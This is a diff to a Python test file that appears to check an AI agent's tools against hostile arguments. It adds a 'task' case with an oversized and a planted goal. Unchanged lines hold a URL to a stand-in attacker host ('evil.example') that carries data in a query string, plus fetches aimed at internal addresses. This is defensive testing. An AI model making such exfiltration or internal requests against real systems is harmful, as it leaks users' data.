@@ -19,6 +19,7 @@ from aiohttp.test_utils import TestServer
 
 from agent.llm.chat_model import ChatReply, ChatRequest, Sink, TokenUsage, ToolCall
 from agent.reminders.reminder import REMIND
+from agent.tasks.task import LONGEST_GOAL
 from agent.tools.tool import ResultContent, Tool, ToolContext, ToolKind, tool
 from agent.tools.toolbox import GROUP
 from gateway.admission import AdmissionPolicy
@@ -97,6 +98,9 @@ def rows(outside: Path, port: int, ids: Mapping[str, str]) -> Mapping[str, Hosti
             + [{"url": f"http://{each}:{port}/"} for each in inside[4:]],
             [{"url": f"https://evil.example/?d={OWN}"}],
             asks=tainted,
+        ),
+        "task": HostileRow(
+            [{"goal": "x" * (LONGEST_GOAL + 1)}], [{"goal": PLANTED}], asks=tainted, refused=frozenset({"untyped"})
         ),
         "web_search": HostileRow([{"query": "kanari"}, {"query": "x" * 301}, {"query": "kanari", "since": "ever"}]),
         "read_page": HostileRow([{}]),
@@ -240,6 +244,7 @@ async def open_scene(
     async with TestServer(site) as server:
         assert server.port is not None
         environment = {
+            "PARLOUR_TOOLS__TASKS__ENABLED": "true",
             "PARLOUR_TOOLS__WEB__PORTS": str(server.port),
             "PARLOUR_TOOLS__WEB__SEARCH": "brave",
             "PARLOUR_TOOLS__WEB__SEARCH_URL": str(server.make_url("/search")),
